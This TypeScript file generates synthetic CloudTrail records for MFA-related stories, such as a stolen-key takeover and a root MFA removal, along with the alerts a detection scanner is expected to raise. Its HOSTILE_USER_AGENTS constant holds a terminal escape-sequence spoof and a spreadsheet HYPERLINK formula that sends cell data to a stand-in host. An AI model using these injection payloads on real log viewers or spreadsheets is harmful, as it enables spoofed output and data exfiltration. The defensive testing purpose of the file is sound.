// The MFA stories planted in a generated archive, each with the alerts a correct scanner reports for it.

import type { Prng } from './prng.ts';
import { envelope, iso, rootIdentity, tls, userKeyIdentity, userSessionIdentity } from './records.ts';
import type { Json, Rec } from './records.ts';
import type { SimAccount, SimUser, World } from './world.ts';

/**
 * What a scanner should report, by rule intent (rule ids are the rule authors' business):
 * - `deactivate-mfa`: a successful DeactivateMFADevice (Elastic's "AWS IAM Deactivation of MFA Device");
 * - `root-mfa-removed`: root's own MFA device deactivated or deleted;
 * - `deactivate-mfa-attempt`: a refused DeactivateMFADevice, reported as an attempt with outcome failure;
 * - `delete-virtual-mfa`: a successful DeleteVirtualMFADevice;
 * - `mfa-registration-temporary-creds`: CreateVirtualMFADevice/EnableMFADevice by temporary credentials not from the console;
 * - `console-login-no-mfa`: an IAM user's successful console sign-in without MFA;
 * - `root-console-login`: a root console sign-in.
 */
export const ALERT_INTENTS = [
  'console-login-no-mfa',
  'deactivate-mfa',
  'deactivate-mfa-attempt',
  'delete-virtual-mfa',
  'mfa-registration-temporary-creds',
  'root-console-login',
  'root-mfa-removed',
] as const;
export type AlertIntent = (typeof ALERT_INTENTS)[number];

export type ScenarioKind =
  | 'phone-swap'
  | 'routine-rotation'
  | 'stolen-key-takeover'
  | 'root-mfa-removed'
  | 'mfa-burst'
  | 'refused-deactivation'
  | 'console-login-no-mfa'
  | 'root-console-login'
  | 'admin-reset';

export interface ExpectedAlert {
  readonly intent: AlertIntent;
  readonly eventId: string;
  readonly eventName: string;
}

export interface ScenarioEvent {
  readonly id: string;
  readonly name: string;
  readonly time: string;
}

/** What triage (issue 4) should conclude; absent where triage has nothing special to say. */
export interface ExpectedTriage {
  readonly classification?: 'rotation' | 'admin-reset' | 'suspicious' | 'unresolved';
  readonly correlation?: { readonly kind: 'burst'; readonly targets: readonly string[] };
  /** Seconds from the removal to the re-enrolment of the same user, where there is one. */
  readonly vulnerabilityWindowSeconds?: number;
  /** The removal event the triage statement is about. */
  readonly removalEventId?: string;
}

export interface Scenario {
  readonly id: string;
  readonly kind: ScenarioKind;
  readonly description: string;
  readonly account: string;
  readonly actor: string;
  readonly targets: readonly string[];
  readonly events: readonly ScenarioEvent[];
  readonly expect: readonly ExpectedAlert[];
  readonly triage?: ExpectedTriage;
  /** Set by the writer on the scenario whose file is delivered twice. */
  duplicatedIn?: string[];
}

/** A record with its time, ready to be placed in the right delivery file. */
export interface Planted {
  readonly t: number;
  readonly account: string;
  readonly region: string;
  readonly record: Rec;
}

/** Who makes a call: the identity element, the address, the user agent, and whether the credential is the console's. */
export interface Caller {
  readonly identity: Rec;
  readonly ip: string;
  readonly ua: string;
  readonly fromConsole: boolean;
}

/** Hostile user agents so the demo shows escaping: a terminal escape sequence and a spreadsheet formula. */
export const HOSTILE_USER_AGENTS = {
  ansi: 'Boto3/1.34.11 md/Botocore#1.34.11 ua/2.0 \u001b]8;;http://198.51.100.66/x\u0007update\u001b]8;;\u0007\u001b[1A\u001b[2K\u001b[32mall clear\u001b[0m',
  csvFormula: '=HYPERLINK("http://203.0.113.99/c?d="&A2,"Open report")',
} as const;

const MINUTE = 60_000;
const HOUR = 3_600_000;
const DAY = 86_400_000;

/** Builds the records of one story, with the eventIDs and the alerts a correct scanner reports for them. */
export class StoryBuilder {
  readonly planted: Planted[] = [];
  readonly events: ScenarioEvent[] = [];
  readonly expect: ExpectedAlert[] = [];
  constructor(
    private readonly rng: Prng,
    readonly account: SimAccount,
  ) {}

  /** Adds an IAM/STS/sign-in call (global services: us-east-1) and returns its eventID. */
  call(
    t: number,
    caller: Caller,
    source: string,
    name: string,
    requestParameters: Json,
    responseElements: Json,
    extra: {
      errorCode?: string;
      errorMessage?: string;
      readOnly?: boolean;
      intents?: readonly AlertIntent[];
    } = {},
  ): string {
    const rng = this.rng;
    const eventId = rng.uuid();
    const record = envelope({
      identity: caller.identity,
      t,
      source,
      name,
      region: 'us-east-1',
      ip: caller.ip,
      userAgent: caller.ua,
      ...(extra.errorCode === undefined ? {} : { errorCode: extra.errorCode }),
      ...(extra.errorMessage === undefined ? {} : { errorMessage: extra.errorMessage }),
      requestParameters,
      responseElements,
      requestId: rng.uuid(),
      eventId,
      readOnly: extra.readOnly ?? false,
      managementEvent: true,
      account: this.account.id,
      category: 'Management',
      tlsDetails: tls(
        rng,
        source === 'iam.amazonaws.com'
          ? 'iam.amazonaws.com'
          : `${source.split('.')[0] ?? 'sts'}.us-east-1.amazonaws.com`,
      ),
      fromConsole: caller.fromConsole,
    });
    this.add(t, record, eventId, name, extra.intents ?? []);
    return eventId;
  }

  consoleLogin(
    t: number,
    identity: Rec,
    ip: string,
    ua: string,
    mfaUsed: boolean,
    mfaSerial: string | null,
    intents: readonly AlertIntent[],
  ): string {
    const eventId = this.rng.uuid();
    const additional: Rec = {
      LoginTo:
        'https://console.aws.amazon.com/console/home?hashArgs=%23&isauthcode=true&state=hashArgsFromTB_us-east-1_' +
        this.rng.hex(16),
      MobileVersion: 'No',
      MFAUsed: mfaUsed ? 'Yes' : 'No',
    };
    if (mfaUsed && mfaSerial !== null) additional['MFAIdentifier'] = mfaSerial;
    const record = envelope({
      identity,
      t,
      source: 'signin.amazonaws.com',
      name: 'ConsoleLogin',
      region: 'us-east-1',
      ip,
      userAgent: ua,
      requestParameters: null,
      responseElements: { ConsoleLogin: 'Success' },
      additionalEventData: additional,
      eventId,
      readOnly: false,
      eventType: 'AwsConsoleSignIn',
      managementEvent: true,
      account: this.account.id,
      category: 'Management',
      tlsDetails: tls(this.rng, 'signin.aws.amazon.com'),
    });
    this.add(t, record, eventId, 'ConsoleLogin', intents);
    return eventId;
  }

  private add(t: number, record: Rec, eventId: string, name: string, intents: readonly AlertIntent[]): void {
    this.planted.push({ t, account: this.account.id, region: 'us-east-1', record });
    this.events.push({ id: eventId, name, time: iso(t) });
    for (const intent of intents) this.expect.push({ intent, eventId, eventName: name });
  }
}

export function user(account: SimAccount, name: string): SimUser {
  const found = account.users.find((u) => u.name === name);
  if (found === undefined) throw new RangeError(`no simulated user ${name}`);
  return found;
}

/** A console session of an IAM user: temporary key, MFA-authenticated, marked as from the console; `AWS Internal` is the user agent CloudTrail records for the console's own calls. */
export function consoleCaller(
  rng: Prng,
  account: SimAccount,
  u: SimUser,
  t: number,
  ip = u.officeIp,
): Caller {
  return {
    identity: userSessionIdentity(account, u, rng.keyId('ASIA'), t - rng.between(5, 40) * MINUTE, true),
    ip,
    ua: 'AWS Internal',
    fromConsole: true,
  };
}

export function newSerial(account: SimAccount, u: SimUser, device: string): string {
  return `arn:aws:iam::${account.id}:mfa/${u.name.split('.')[0] ?? u.name}-${device}`;
}

/**
 * The read-only calls the IAM console makes when a "Security credentials" page opens (the user's own, or an
 * administrator looking at a user): MFA devices, access keys, console password, signing certificates, SSH keys,
 * service-specific credentials, and the account summary for the quotas. From the browser's session and address.
 */
export const CONSOLE_PAGE_CALLS = [
  'ListMFADevices',
  'ListAccessKeys',
  'GetLoginProfile',
  'ListSigningCertificates',
  'ListSSHPublicKeys',
  'ListServiceSpecificCredentials',
  'GetAccountSummary',
] as const;

export function consolePageCalls(b: StoryBuilder, t: number, caller: Caller, userName: string): number {
  let at = t;
  for (const name of CONSOLE_PAGE_CALLS) {
    b.call(at, caller, 'iam.amazonaws.com', name, name === 'GetAccountSummary' ? null : { userName }, null, {
      readOnly: true,
    });
    at += 1000;
  }
  return at;
}

/**
 * The console's "Remove" on `u`'s device at `t`: a virtual device is deactivated and deleted in one go (2 s apart); a
 * security key is only deactivated. Returns the deactivation, the removal a scenario plants.
 */
function consoleRemove(
  b: StoryBuilder,
  t: number,
  caller: Caller,
  u: SimUser,
): ReturnType<StoryBuilder['call']> {
  const removal = b.call(
    t,
    caller,
    'iam.amazonaws.com',
    'DeactivateMFADevice',
    { userName: u.name, serialNumber: u.mfaSerial },
    null,
    { intents: ['deactivate-mfa'] },
  );
  if (!u.mfaSerial.endsWith('-yubikey')) {
    b.call(
      t + 2000,
      caller,
      'iam.amazonaws.com',
      'DeleteVirtualMFADevice',
      { serialNumber: u.mfaSerial },
      null,
      {
        intents: ['delete-virtual-mfa'],
      },
    );
  }
  return removal;
}

/** A person replacing their phone: the console page opens, removal in an MFA console session, new device minutes later, same address. */
export function phoneSwap(
  rng: Prng,
  account: SimAccount,
  u: SimUser,
  t: number,
  id: string,
  kind: 'phone-swap' | 'routine-rotation',
): { scenario: Scenario; planted: Planted[] } {
  const b = new StoryBuilder(rng, account);
  b.consoleLogin(
    t - 6 * MINUTE,
    userKeyIdentityNoKey(account, u),
    u.officeIp,
    u.browser,
    true,
    u.mfaSerial,
    [],
  );
  const caller = consoleCaller(rng, account, u, t);
  consolePageCalls(b, t - 40_000, caller, u.name);
  const removal = consoleRemove(b, t, caller, u);
  const serial = newSerial(account, u, rng.pick(['iphone15', 'pixel8', 'galaxy-s24']));
  const gap = rng.between(2, 5) * MINUTE + rng.between(0, 59) * 1000;
  b.call(
    t + gap - 40_000,
    caller,
    'iam.amazonaws.com',
    'CreateVirtualMFADevice',
    { virtualMFADeviceName: serial.split('/').pop() ?? 'device', path: '/' },
    { virtualMFADevice: { serialNumber: serial } },
  );
  b.call(
    t + gap,
    caller,
    'iam.amazonaws.com',
    'EnableMFADevice',
    { userName: u.name, serialNumber: serial },
    null,
  );
  return {
    scenario: {
      id,
      kind,
      description: `${u.name} replaces their MFA device from the console in office hours: the security-credentials page opens (the console lists devices, keys, password, certificates), the old device is removed, and a new virtual device is created and enabled ${Math.round(gap / 1000)} s later from the same address.`,
      account: account.id,
      actor: u.name,
      targets: [u.name],
      events: b.events,
      expect: b.expect,
      triage: {
        classification: 'rotation',
        vulnerabilityWindowSeconds: Math.round(gap / 1000),
        removalEventId: removal,
      },
    },
    planted: b.planted,
  };
}

/** ConsoleLogin's userIdentity for an IAM user carries no access key. */
export function userKeyIdentityNoKey(account: SimAccount, u: SimUser): Rec {
  return { type: 'IAMUser', principalId: u.principalId, arn: u.arn, accountId: account.id, userName: u.name };
}

/** With a session of the stolen key: a new MFA device for the victim, an access key, and the password reset. */
function thiefPersists(
  rng: Prng,
  b: StoryBuilder,
  account: SimAccount,
  session: Caller,
  victim: SimUser,
  t: number,
): void {
  const serial = newSerial(account, victim, 'backup');
  b.call(
    t + 5 * MINUTE,
    session,
    'iam.amazonaws.com',
    'CreateVirtualMFADevice',
    { virtualMFADeviceName: serial.split('/').pop() ?? 'backup', path: '/' },
    { virtualMFADevice: { serialNumber: serial } },
    { intents: ['mfa-registration-temporary-creds'] },
  );
  b.call(
    t + 5 * MINUTE + 30_000,
    session,
    'iam.amazonaws.com',
    'EnableMFADevice',
    { userName: victim.name, serialNumber: serial },
    null,
    { intents: ['mfa-registration-temporary-creds'] },
  );
  b.call(
    t + 7 * MINUTE,
    session,
    'iam.amazonaws.com',
    'CreateAccessKey',
    { userName: victim.name },
    {
      accessKey: {
        userName: victim.name,
        accessKeyId: rng.keyId('AKIA'),
        status: 'Active',
        createDate: new Date(t + 7 * MINUTE).toUTCString(),
      },
    },
  );
  b.call(
    t + 8 * MINUTE,
    session,
    'iam.amazonaws.com',
    'UpdateLoginProfile',
    { userName: victim.name, passwordResetRequired: false },
    null,
  );
}

/** A leaked CI key used at night from a new address: recon, MFA stripped from a person, attacker device, new key, password reset. */
function stolenKeyTakeover(
  rng: Prng,
  account: SimAccount,
  t: number,
): { scenario: Scenario; planted: Planted[] } {
  const b = new StoryBuilder(rng, account);
  const thief = user(account, 'ci-deploy');
  const victim = account.users[1] ?? user(account, 'it-admin');
  const ip = `203.0.113.${rng.between(10, 250)}`;
  const ua = HOSTILE_USER_AGENTS.ansi;
  const key: Caller = { identity: userKeyIdentity(account, thief), ip, ua, fromConsole: false };
  b.call(t, key, 'sts.amazonaws.com', 'GetCallerIdentity', null, null, { readOnly: true });
  b.call(t + 40_000, key, 'iam.amazonaws.com', 'ListUsers', null, null, { readOnly: true });
  b.call(t + 70_000, key, 'iam.amazonaws.com', 'ListMFADevices', { userName: victim.name }, null, {
    readOnly: true,
  });
  const removal = b.call(
    t + 3 * MINUTE,
    key,
    'iam.amazonaws.com',
    'DeactivateMFADevice',
    { userName: victim.name, serialNumber: victim.mfaSerial },
    null,
    { intents: ['deactivate-mfa'] },
  );
  b.call(
    t + 3 * MINUTE + 20_000,
    key,
    'iam.amazonaws.com',
    'DeleteVirtualMFADevice',
    { serialNumber: victim.mfaSerial },
    null,
    { intents: ['delete-virtual-mfa'] },
  );
  const sessionKey = rng.keyId('ASIA');
  b.call(
    t + 4 * MINUTE,
    key,
    'sts.amazonaws.com',
    'GetSessionToken',
    { durationSeconds: 43200 },
    {
      credentials: {
        accessKeyId: sessionKey,
        sessionToken: rng.base64(96),
        expiration: new Date(t + 4 * MINUTE + 12 * HOUR).toUTCString(),
      },
    },
  );
  const session: Caller = {
    identity: userSessionIdentity(account, thief, sessionKey, t + 4 * MINUTE, false),
    ip,
    ua,
    fromConsole: false,
  };
  thiefPersists(rng, b, account, session, victim, t);
  return {
    scenario: {
      id: 'stolen-key-takeover',
      kind: 'stolen-key-takeover',
      description: `At night, ci-deploy's long-term key is used from ${ip} (never seen before) to look around, remove ${victim.name}'s MFA, delete the device, register a new one with a GetSessionToken session without MFA, create an access key and reset the password. The user agent carries a terminal escape sequence.`,
      account: account.id,
      actor: thief.name,
      targets: [victim.name],
      events: b.events,
      expect: b.expect,
      triage: { classification: 'suspicious', removalEventId: removal },
    },
    planted: b.planted,
  };
}

function rootRemovesMfa(
  rng: Prng,
  account: SimAccount,
  t: number,
): { scenario: Scenario; planted: Planted[] } {
  const b = new StoryBuilder(rng, account);
  const ip = account.users[0]?.homeIp ?? '192.0.2.50';
  const browser = account.users[0]?.browser ?? 'Mozilla/5.0';
  const rootSerial = `arn:aws:iam::${account.id}:mfa/root-account-mfa-device`;
  b.consoleLogin(t - 4 * MINUTE, rootIdentity(account, null, null, false), ip, browser, true, rootSerial, [
    'root-console-login',
  ]);
  const caller: Caller = {
    identity: rootIdentity(account, rng.keyId('ASIA'), t - 4 * MINUTE, true),
    ip,
    ua: 'AWS Internal',
    fromConsole: true,
  };
  const removal = b.call(
    t,
    caller,
    'iam.amazonaws.com',
    'DeactivateMFADevice',
    { serialNumber: rootSerial },
    null,
    { intents: ['deactivate-mfa', 'root-mfa-removed'] },
  );
  return {
    scenario: {
      id: 'root-mfa-removed',
      kind: 'root-mfa-removed',
      description: 'Root signs in to the console and deactivates its own MFA device; no new device follows.',
      account: account.id,
      actor: 'root',
      targets: ['root'],
      events: b.events,
      expect: b.expect,
      triage: { classification: 'unresolved', removalEventId: removal },
    },
    planted: b.planted,
  };
}

function mfaBurst(rng: Prng, account: SimAccount, t: number): { scenario: Scenario; planted: Planted[] } {
  const b = new StoryBuilder(rng, account);
  const admin = user(account, 'it-admin');
  const caller: Caller = {
    identity: userKeyIdentity(account, admin),
    ip: admin.officeIp,
    ua: HOSTILE_USER_AGENTS.csvFormula,
    fromConsole: false,
  };
  const targets = account.users.slice(7, 13);
  let at = t;
  for (const target of targets) {
    b.call(
      at,
      caller,
      'iam.amazonaws.com',
      'DeactivateMFADevice',
      { userName: target.name, serialNumber: target.mfaSerial },
      null,
      { intents: ['deactivate-mfa'] },
    );
    at += rng.between(50, 100) * 1000;
  }
  return {
    scenario: {
      id: 'mfa-burst',
      kind: 'mfa-burst',
      description: `it-admin removes MFA from ${targets.length} users within ${Math.ceil((at - t) / MINUTE)} minutes with a long-term key; the user agent is a spreadsheet formula.`,
      account: account.id,
      actor: admin.name,
      targets: targets.map((u) => u.name),
      events: b.events,
      expect: b.expect,
      triage: {
        classification: 'suspicious',
        correlation: { kind: 'burst', targets: targets.map((u) => u.name) },
      },
    },
    planted: b.planted,
  };
}

function refusedDeactivation(
  rng: Prng,
  account: SimAccount,
  t: number,
): { scenario: Scenario; planted: Planted[] } {
  const b = new StoryBuilder(rng, account);
  const intern = user(account, 'intern.summer');
  const target = account.users[2] ?? intern;
  const caller = consoleCaller(rng, account, intern, t, intern.homeIp);
  b.call(
    t,
    caller,
    'iam.amazonaws.com',
    'DeactivateMFADevice',
    { userName: target.name, serialNumber: target.mfaSerial },
    null,
    {
      errorCode: 'AccessDenied',
      errorMessage: `User: ${intern.arn} is not authorized to perform: iam:DeactivateMFADevice on resource: user ${target.name} because no identity-based policy allows the iam:DeactivateMFADevice action`,
      intents: ['deactivate-mfa-attempt'],
    },
  );
  return {
    scenario: {
      id: 'refused-deactivation',
      kind: 'refused-deactivation',
      description: `intern.summer tries to deactivate ${target.name}'s MFA and is refused (AccessDenied): an attempt, never a removal.`,
      account: account.id,
      actor: intern.name,
      targets: [target.name],
      events: b.events,
      expect: b.expect,
    },
    planted: b.planted,
  };
}

function consoleLoginWithoutMfa(
  rng: Prng,
  account: SimAccount,
  t: number,
): { scenario: Scenario; planted: Planted[] } {
  const b = new StoryBuilder(rng, account);
  const u = user(account, 'backup-operator');
  b.consoleLogin(t, userKeyIdentityNoKey(account, u), u.homeIp, u.browser, false, null, [
    'console-login-no-mfa',
  ]);
  return {
    scenario: {
      id: 'console-login-no-mfa',
      kind: 'console-login-no-mfa',
      description: 'backup-operator, an IAM user, signs in to the console with a password only (MFAUsed No).',
      account: account.id,
      actor: u.name,
      targets: [u.name],
      events: b.events,
      expect: b.expect,
    },
    planted: b.planted,
  };
}

function rootConsoleLogin(
  rng: Prng,
  account: SimAccount,
  t: number,
): { scenario: Scenario; planted: Planted[] } {
  const b = new StoryBuilder(rng, account);
  const ip = account.users[3]?.officeIp ?? '198.51.100.7';
  b.consoleLogin(
    t,
    rootIdentity(account, null, null, false),
    ip,
    account.users[3]?.browser ?? 'Mozilla/5.0',
    true,
    `arn:aws:iam::${account.id}:mfa/root-account-mfa-device`,
    ['root-console-login'],
  );
  return {
    scenario: {
      id: 'root-console-login',
      kind: 'root-console-login',
      description:
        'Root signs in to the console (with MFA). Its delivery file is delivered twice (organisation trail and account trail): one alert, not two.',
      account: account.id,
      actor: 'root',
      targets: ['root'],
      events: b.events,
      expect: b.expect,
    },
    planted: b.planted,
  };
}

/**
 * An administrator resets a colleague's lost phone from the console (an MFA session, the user's page open), and the
 * colleague comes back with the password alone to enrol a new device: the documented path, pending the owner's word.
 */
function adminReset(rng: Prng, account: SimAccount, t: number): { scenario: Scenario; planted: Planted[] } {
  const b = new StoryBuilder(rng, account);
  const admin = user(account, 'it-admin');
  const owner = account.users[13] ?? admin;
  b.consoleLogin(
    t - 8 * MINUTE,
    userKeyIdentityNoKey(account, admin),
    admin.officeIp,
    admin.browser,
    true,
    admin.mfaSerial,
    [],
  );
  const caller = consoleCaller(rng, account, admin, t);
  b.call(t - 90_000, caller, 'iam.amazonaws.com', 'ListUsers', null, null, { readOnly: true });
  consolePageCalls(b, t - 40_000, caller, owner.name);
  const removal = consoleRemove(b, t, caller, owner);
  const back = t + 25 * MINUTE;
  b.consoleLogin(back, userKeyIdentityNoKey(account, owner), owner.officeIp, owner.browser, false, null, [
    'console-login-no-mfa',
  ]);
  const session: Caller = {
    identity: userSessionIdentity(account, owner, rng.keyId('ASIA'), back, false),
    ip: owner.officeIp,
    ua: 'AWS Internal',
    fromConsole: true,
  };
  const serial = newSerial(account, owner, 'iphone15');
  b.call(
    back + 3 * MINUTE,
    session,
    'iam.amazonaws.com',
    'CreateVirtualMFADevice',
    { virtualMFADeviceName: serial.split('/').pop() ?? 'iphone15', path: '/' },
    { virtualMFADevice: { serialNumber: serial } },
  );
  b.call(
    back + 3 * MINUTE + 30_000,
    session,
    'iam.amazonaws.com',
    'EnableMFADevice',
    { userName: owner.name, serialNumber: serial },
    null,
  );
  return {
    scenario: {
      id: 'admin-reset',
      kind: 'admin-reset',
      description: `it-admin resets ${owner.name}'s lost device from the console; ${owner.name} signs in with the password alone and enrols a new phone: an administrator's reset, pending ${owner.name}'s confirmation.`,
      account: account.id,
      actor: admin.name,
      targets: [owner.name],
      events: b.events,
      expect: b.expect,
      triage: { classification: 'admin-reset', removalEventId: removal },
    },
    planted: b.planted,
  };
}

/** Picks the first Monday–Friday day index at or after `preferred`, within the archive (falls back to `preferred`). */
function weekday(startMs: number, days: number, preferred: number): number {
  for (let d = Math.min(preferred, days - 1); d < days; d++) {
    const dow = new Date(startMs + d * DAY).getUTCDay();
    if (dow >= 1 && dow <= 5) return d;
  }
  return Math.min(preferred, days - 1);
}

/** The fixed stories: times are relative to the archive start (UTC), office hours 09:00–17:00 UTC. */
export function buildScenarios(
  rng: Prng,
  world: World,
  startMs: number,
  days: number,
): { scenarios: Scenario[]; planted: Planted[] } {
  const first = world.accounts[0];
  if (first === undefined) throw new RangeError('no accounts');
  const second = world.accounts[1] ?? first;
  const last = days - 1;
  const at = (d: number, h: number, m: number): number =>
    startMs + d * DAY + h * HOUR + m * MINUTE + rng.between(0, 59) * 1000;
  const stories = [
    phoneSwap(
      rng,
      first,
      user(first, first.users[0]?.name ?? 'alice.nguyen'),
      at(weekday(startMs, days, 1), 10, 12),
      'phone-swap',
      'phone-swap',
    ),
    stolenKeyTakeover(rng, first, at(Math.min(1, last), 2, 7)),
    rootRemovesMfa(rng, second, at(0, 15, 40)),
    mfaBurst(rng, first, at(last, 11, 0)),
    refusedDeactivation(rng, first, at(0, 13, 25)),
    consoleLoginWithoutMfa(rng, second, at(0, 8, 55)),
    rootConsoleLogin(rng, second, at(last, 9, 30)),
    adminReset(rng, first, at(0, 14, 20)),
  ];
  return { scenarios: stories.map((s) => s.scenario), planted: stories.flatMap((s) => s.planted) };
}

/** An IAM user's console sign-in with MFA from `ip`. */
function mfaConsoleSignIn(rng: Prng, account: SimAccount, u: SimUser, t: number, ip: string): Rec {
  return envelope({
    identity: userKeyIdentityNoKey(account, u),
    t,
    source: 'signin.amazonaws.com',
    name: 'ConsoleLogin',
    region: 'us-east-1',
    ip,
    userAgent: u.browser,
    requestParameters: null,
    responseElements: { ConsoleLogin: 'Success' },
    additionalEventData: {
      LoginTo: 'https://console.aws.amazon.com/console/home?state=hashArgs%23&isauthcode=true',
      MobileVersion: 'No',
      MFAIdentifier: u.mfaSerial,
      MFAUsed: 'Yes',
    },
    eventId: rng.uuid(),
    readOnly: false,
    eventType: 'AwsConsoleSignIn',
    managementEvent: true,
    account: account.id,
    category: 'Management',
    tlsDetails: tls(rng, 'signin.aws.amazon.com'),
  });
}

/** An SSO (federated) console sign-in: MFAUsed No, which the sign-in rule leaves out. */
function ssoConsoleSignIn(rng: Prng, account: SimAccount, t: number): Rec {
  const role = rng.pick(account.roles.filter((r) => r.kind === 'sso'));
  const session = rng.pick(role.sessions);
  return envelope({
    identity: {
      type: 'AssumedRole',
      principalId: `${role.principalId}:${session}`,
      arn: `arn:aws:sts::${account.id}:assumed-role/${role.name}/${session}`,
      accountId: account.id,
      sessionContext: {
        sessionIssuer: {
          type: 'Role',
          principalId: role.principalId,
          arn: role.arn,
          accountId: account.id,
          userName: role.name,
        },
        webIdFederationData: {},
        attributes: { creationDate: iso(t - 1000), mfaAuthenticated: 'false' },
      },
    },
    t,
    source: 'signin.amazonaws.com',
    name: 'ConsoleLogin',
    region: 'us-east-1',
    ip: rng.pick(role.ips),
    userAgent: role.userAgent,
    requestParameters: null,
    responseElements: { ConsoleLogin: 'Success' },
    additionalEventData: { MobileVersion: 'No', MFAUsed: 'No' },
    eventId: rng.uuid(),
    readOnly: false,
    eventType: 'AwsConsoleSignIn',
    managementEvent: true,
    account: account.id,
    category: 'Management',
    tlsDetails: tls(rng, 'us-east-1.signin.aws.amazon.com'),
  });
}

/**
 * MFA-relevant everyday events that must not alert: console sign-ins with MFA, SSO (federated) sign-ins
 * (MFAUsed No, excluded by the sign-in rule), ListMFADevices and GetSessionToken with MFA.
 */
export function benignMfaEvent(rng: Prng, account: SimAccount, t: number): Planted {
  const roll = rng.next();
  const people = account.bystanders;
  const u = rng.pick(people);
  let record: Rec;
  if (roll < 0.45) {
    // At the office mostly, some at home.
    record = mfaConsoleSignIn(rng, account, u, t, rng.chance(0.8) ? u.officeIp : u.homeIp);
  } else if (roll < 0.7) {
    record = ssoConsoleSignIn(rng, account, t);
  } else if (roll < 0.85) {
    const caller = consoleCaller(rng, account, u, t);
    record = envelope({
      identity: caller.identity,
      t,
      source: 'iam.amazonaws.com',
      name: 'ListMFADevices',
      region: 'us-east-1',
      ip: caller.ip,
      userAgent: caller.ua,
      requestParameters: { userName: u.name },
      responseElements: null,
      requestId: rng.uuid(),
      eventId: rng.uuid(),
      readOnly: true,
      managementEvent: true,
      account: account.id,
      category: 'Management',
      tlsDetails: tls(rng, 'iam.amazonaws.com'),
      fromConsole: true,
    });
  } else {
    record = envelope({
      identity: userKeyIdentity(account, u),
      t,
      source: 'sts.amazonaws.com',
      name: 'GetSessionToken',
      region: 'us-east-1',
      ip: u.officeIp,
      userAgent: u.cli,
      requestParameters: { durationSeconds: 43200, serialNumber: u.mfaSerial },
      responseElements: {
        credentials: {
          accessKeyId: rng.keyId('ASIA'),
          sessionToken: rng.base64(96),
          expiration: new Date(t + 12 * HOUR).toUTCString(),
        },
      },
      requestId: rng.uuid(),
      eventId: rng.uuid(),
      readOnly: true,
      managementEvent: true,
      account: account.id,
      category: 'Management',
      tlsDetails: tls(rng, 'sts.us-east-1.amazonaws.com'),
    });
  }
  return { t, account: account.id, region: 'us-east-1', record };
}

/**
 * A console sign-in with MFA early each morning (07:00–07:45 UTC, well before any planted removal) for every
 * person who acts in a story, from their office address: the history that lets triage judge their later
 * phone swap as familiar rather than "no baseline".
 */
export function baselineSignIns(rng: Prng, account: SimAccount, startMs: number, days: number): Planted[] {
  const out: Planted[] = [];
  for (let d = 0; d < days; d++) {
    for (const u of storyPeople(account)) {
      const t = startMs + d * DAY + 7 * HOUR + rng.int(45 * 60) * 1000;
      const record = mfaConsoleSignIn(rng, account, u, t, u.officeIp);
      out.push({ t, account: account.id, region: 'us-east-1', record });
    }
  }
  return out;
}

/** People who act in (or are the target of) a planted person-level story: the first seven. */
function storyPeople(account: SimAccount): readonly SimUser[] {
  return account.people.slice(0, 7);
}

/** People eligible for background rotations (not the other stories' actors and targets, nor the bystanders). */
export function rotationCandidates(account: SimAccount): readonly SimUser[] {
  return account.users.slice(2, 7);
}
